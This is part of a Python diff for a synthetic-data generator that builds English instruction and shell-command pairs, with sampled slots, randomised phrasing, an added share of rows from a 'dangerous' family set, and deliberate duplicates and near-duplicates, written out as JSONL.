+        value = pool(rng) if callable(pool) else rng.choice(pool)
+        english[name], shell[name] = value if isinstance(value, tuple) else (value, value)
+    return english, shell
+
+
+def render(family: Family, rng: random.Random) -> tuple[str, str]:
+    english, shell = sample_slots(family, rng)
+    phrasing = rng.choice(family.phrasings).format(**english)
+    prefix = rng.choice(PREFIXES)
+    if phrasing.split(" ", 1)[0] in QUESTION_WORDS:  # "I need to how many ..." reads wrong
+        prefix = ""
+    instruction = prefix + phrasing
+    if prefix in ("can you ", "how do I ") and rng.random() < 0.7:
+        instruction += "?"
+    if rng.random() < 0.5:
+        instruction = instruction[0].upper() + instruction[1:]
+    return instruction, family.command.format(**shell)
+
+
+def generate_family(family: Family, rng: random.Random, quota: int) -> list[tuple[str, str]]:
+    """Up to `quota` distinct (instruction, command) pairs; small families give fewer."""
+    seen: dict[tuple[str, str], None] = {}
+    for _ in range(quota * 8):
+        if len(seen) >= quota:
+            break
+        seen.setdefault(render(family, rng), None)
+    return list(seen)
+
+
+def near_duplicate(instruction: str, command: str, rng: random.Random) -> tuple[str, str]:
+    """The same pair as scraped data often repeats it: other case, spacing or final punctuation."""
+    variants = [
+        lambda: (instruction.swapcase()[:1] + instruction[1:], command),
+        lambda: (instruction.rstrip("?.") + ".", command),
+        lambda: (instruction.replace(" ", "  ", 1), command + " "),
+        lambda: ("  " + instruction, re.sub(r" ", "  ", command, count=1)),
+    ]
+    return rng.choice(variants)()
+
+
+def generate(seed: int = DEFAULT_SEED, per_family: int = PER_FAMILY) -> list[dict[str, str]]:
+    rng = random.Random(seed)
+    rows = [{"instruction": i, "command": c, "family": f.name}
+            for f in FAMILIES for i, c in generate_family(f, rng, per_family)]
+    n_danger = round(len(rows) * DANGEROUS_SHARE)
+    danger = [{"instruction": i, "command": c, "family": f.name}
+              for f in DANGEROUS for i, c in generate_family(f, rng, per_family)]
+    rows += rng.sample(danger, min(n_danger, len(danger)))
+    for source in rng.sample(rows, round(len(rows) * DUPLICATE_SHARE)):
+        if rng.random() < 0.5:
+            rows.append(dict(source))
+        else:
+            i, c = near_duplicate(source["instruction"], source["command"], rng)
+            rows.append({"instruction": i, "command": c, "family": source["family"]})
+    rng.shuffle(rows)
+    return rows
+
+
+def main(argv: list[str] | None = None) -> int:
+    parser = argparse.ArgumentParser(prog="shelltune gen-data", description=__doc__.splitlines()[0])
+    parser.add_argument("--out", default=DEFAULT_OUT)
+    parser.add_argument("--seed", type=int, default=DEFAULT_SEED)
+    parser.add_argument("--per-family", type=int, default=PER_FAMILY)
+    args = parser.parse_args(argv)
+    rows = generate(args.seed, args.per_family)
+    write_jsonl(args.out, rows)
+    families = len({r["family"] for r in rows})
+    print(f"wrote {len(rows)} rows from {families} families to {args.out}")
+    return 0
+
+
+if __name__ == "__main__":
+    raise SystemExit(main())
